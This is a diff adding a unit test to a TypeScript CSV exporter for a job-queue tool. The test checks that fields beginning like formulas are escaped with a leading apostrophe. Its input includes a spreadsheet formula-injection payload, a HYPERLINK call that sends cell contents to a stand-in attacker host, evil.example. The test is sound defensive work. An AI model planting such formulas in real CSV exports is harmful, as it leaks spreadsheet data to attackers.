@@ -41,4 +41,16 @@ describe('CSV (RFC 4180)', () => {
     expect(row![header!.indexOf('elapsed_s')]).toBe('60');
     expect(row![header!.indexOf('power_w')]).toBe('150.5');
   });
+
+  it('exports campaign names and owners that begin like a formula as text, never as a formula', () => {
+    const run: QueueRun = {
+      id: 'r1', campaignId: 'c1', campaignName: '=HYPERLINK("https://evil.example/?"&A1)', owner: '@ci', cluster: 'local', configurationKey: 'n=1', parameters: { n: 1 }, repetition: 1,
+      state: 'pending', slurmJobId: null, partition: null, nodes: null, nodeList: null, createdAt: '2026-11-30T03:00:00.000Z', submittedAt: null,
+      startedAt: null, reason: '-x', powerW: null,
+    };
+    const [header, row] = parseCsv(queueCsv([run], Date.parse('2026-11-30T03:01:10.000Z')));
+    expect(row![header!.indexOf('campaign')]).toBe('\'=HYPERLINK("https://evil.example/?"&A1)');
+    expect(row![header!.indexOf('owner')]).toBe("'@ci");
+    expect(row![header!.indexOf('reason')]).toBe("'-x");
+  });
 });
